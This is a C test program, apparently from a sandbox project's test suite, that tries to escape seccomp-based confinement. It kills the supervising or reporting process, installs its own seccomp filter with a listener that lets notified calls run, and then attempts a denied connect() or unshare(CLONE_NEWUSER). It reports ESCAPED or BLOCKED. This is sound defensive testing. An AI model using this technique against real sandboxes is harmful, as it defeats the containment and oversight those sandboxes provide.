/*
 * listener_steal — the attacks of test/listener-steal.test.ts: end whoever
 * holds sbx's seccomp listener, then install a filter with a listener of our
 * own and answer SECCOMP_USER_NOTIF_FLAG_CONTINUE to what sbx's filter
 * notifies. The kernel gives a notification to the newest filter that asks
 * for one, and refuses a second listener (EBUSY) only while the first is open.
 *
 *   listener_steal unix PATH [MS]     run as the program under net.unixPaths
 *                                     (its parent is the unix supervisor):
 *                                     a child of ours survives the parent-death
 *                                     signal, we kill the supervisor, the child
 *                                     tries for MS ms (default 2000) to install
 *                                     its listener, then connect()s to PATH
 *   listener_steal report PID|auto [MS]
 *                                     kill the reporter PID (auto: the preload
 *                                     door's: a fork of ours, just started,
 *                                     reparented, not confined), try for MS
 *                                     ms, then a child calls the denied
 *                                     unshare(CLONE_NEWUSER)
 *   listener_steal plain              the neighbour: a filter without a
 *                                     listener (allow everything) installs
 *
 * One line on stdout: "ESCAPED ...", "BLOCKED ..." or "OK ...", or "ERROR ...".
 * SAFE: kills only its parent, or an unconfined process with its own name
 * that started within a second after it; the filters it installs apply to itself and its children.
 */
#include <dirent.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case EBUSY: return "EBUSY";
	case ENOSYS: return "ENOSYS";
	case EINVAL: return "EINVAL";
	case ESRCH: return "ESRCH";
	case ENOENT: return "ENOENT";
	case ECONNREFUSED: return "ECONNREFUSED";
	default: return strerror(e);
	}
}

static long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static int lfd = -1;

static void *answer_continue(void *arg)
{
	(void)arg;
	for (;;) {
		struct seccomp_notif req;
		memset(&req, 0, sizeof(req));
		if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EINTR || errno == ENOENT)
				continue;
			return NULL;
		}
		struct seccomp_notif_resp r = { .id = req.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
		ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &r);
	}
}

/* A filter that notifies `nr` (allows the rest), with a listener that lets
 * every notified call run; tried for `ms`. 0, or the last errno. */
static int take_over(int nr, long ms, long *tries)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)nr, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { 4, f };
	int e = 0;
	pthread_t t;

	for (long end = now_ms() + ms; now_ms() < end;) {
		++*tries;
		lfd = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
		if (lfd >= 0)
			return pthread_create(&t, NULL, answer_continue, NULL) ? EAGAIN : 0;
		e = errno;
		if (e != EBUSY)
			break;
	}
	return e;
}

static int steal_unix(const char *path, long ms)
{
	pid_t sup = getppid();
	pid_t child = fork();

	if (child < 0) {
		printf("ERROR fork: %s\n", ename(errno));
		return 2;
	}
	if (child > 0) {
		/* We die with the supervisor (parent-death signal); the
		 * child, which the signal does not reach, reports. */
		if (kill(sup, SIGKILL)) {
			printf("BLOCKED kill(supervisor) = -1 %s\n", ename(errno));
			fflush(stdout);
		}
		waitpid(child, NULL, 0);
		return 0;
	}
	long tries = 0;
	int e = take_over(SYS_connect, ms, &tries);
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	if (s >= 0 && connect(s, (struct sockaddr *)&sa, sizeof(sa)) == 0) {
		char buf[256] = "";
		ssize_t n = read(s, buf, sizeof(buf) - 1);
		buf[n > 0 ? n : 0] = 0;
		buf[strcspn(buf, "\n")] = 0;
		printf("ESCAPED connect %s -> %s (%s)\n", path, buf,
		       e ? "without a listener of our own" : "our listener let it run");
		return 1;
	}
	int ce = errno;
	printf("BLOCKED seccomp(NEW_LISTENER) = %s%s after %ld tries; connect = -1 %s\n", e ? "-1 " : "0",
	       e ? ename(e) : "", tries, ename(ce));
	return 0;
}

/* Field 22 of /proc/PID/stat: the start time, in clock ticks after boot. */
static long long start_time(pid_t pid)
{
	char f[64], buf[1024];
	FILE *fp;
	size_t n;

	snprintf(f, sizeof(f), "/proc/%d/stat", (int)pid);
	if (!(fp = fopen(f, "r")))
		return -1;
	n = fread(buf, 1, sizeof(buf) - 1, fp);
	fclose(fp);
	buf[n] = 0;
	char *p = strrchr(buf, ')');
	for (int field = 2; p && field < 22; field++)
		p = strchr(p + 1, ' ');
	return p ? atoll(p + 1) : -1;
}

/* The preload door's reporter: a fork of ours made just before main (same
 * name, started within a second of us), reparented to init, and not under
 * seccomp. */
static pid_t find_reporter(void)
{
	char me[64] = "", f[64], comm[64], line[256];
	long long mine = start_time(getpid()), hz = sysconf(_SC_CLK_TCK);
	pid_t found = -1;
	FILE *fp = fopen("/proc/self/comm", "r");
	DIR *d = opendir("/proc");
	struct dirent *de;

	if (fp) {
		if (!fgets(me, sizeof(me), fp))
			me[0] = 0;
		fclose(fp);
	}
	while (d && (de = readdir(d))) {
		pid_t pid = (pid_t)atoi(de->d_name);
		int seccomp = -1, ppid = -1;
		long long t;
		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(f, sizeof(f), "/proc/%d/comm", (int)pid);
		if (!(fp = fopen(f, "r")))
			continue;
		if (!fgets(comm, sizeof(comm), fp))
			comm[0] = 0;
		fclose(fp);
		if (strcmp(comm, me))
			continue;
		snprintf(f, sizeof(f), "/proc/%d/status", (int)pid);
		if (!(fp = fopen(f, "r")))
			continue;
		while (fgets(line, sizeof(line), fp)) {
			if (!strncmp(line, "Seccomp:", 8))
				seccomp = atoi(line + 8);
			if (!strncmp(line, "PPid:", 5))
				ppid = atoi(line + 5);
		}
		fclose(fp);
		t = start_time(pid);
		if (seccomp == 0 && ppid == 1 && mine >= 0 && t >= mine && t - mine <= hz)
			found = pid;
	}
	if (d)
		closedir(d);
	return found;
}

static int steal_report(const char *who, long ms)
{
	pid_t target = strcmp(who, "auto") ? (pid_t)atoi(who) : find_reporter();
	char killed[96];

	if (target <= 0) {
		printf("ERROR no reporter found\n");
		return 2;
	}
	if (kill(target, SIGKILL))
		snprintf(killed, sizeof(killed), "kill(reporter) = -1 %s", ename(errno));
	else
		snprintf(killed, sizeof(killed), "reporter killed");
	long tries = 0;
	int e = take_over(SYS_unshare, ms, &tries);
	fflush(stdout);
	pid_t c = fork();
	if (c == 0) {
		/* one thread: CLONE_NEWUSER refuses a multi-threaded caller */
		if (unshare(CLONE_NEWUSER) == 0) {
			printf("ESCAPED %s; unshare(CLONE_NEWUSER) = 0 (%s)\n", killed,
			       e ? "without a listener of our own" : "our listener let it run");
			_exit(1);
		}
		int ue = errno;
		printf("BLOCKED %s; seccomp(NEW_LISTENER) = %s%s after %ld tries; unshare = -1 %s\n", killed,
		       e ? "-1 " : "0", e ? ename(e) : "", tries, ename(ue));
		_exit(0);
	}
	int st = 0;
	waitpid(c, &st, 0);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 2;
}

static int plain(void)
{
	struct sock_filter f[] = { BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW) };
	struct sock_fprog prog = { 1, f };

	if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog)) {
		printf("DENIED seccomp(filter without a listener) = -1 %s\n", ename(errno));
		return 1;
	}
	printf("OK a filter without a listener installs\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 3 && !strcmp(argv[1], "unix"))
		return steal_unix(argv[2], argc > 3 ? atol(argv[3]) : 2000);
	if (argc >= 3 && !strcmp(argv[1], "report"))
		return steal_report(argv[2], argc > 3 ? atol(argv[3]) : 2000);
	if (argc == 2 && !strcmp(argv[1], "plain"))
		return plain();
	printf("ERROR usage: listener_steal unix PATH [MS] | report PID|auto [MS] | plain\n");
	return 2;
}
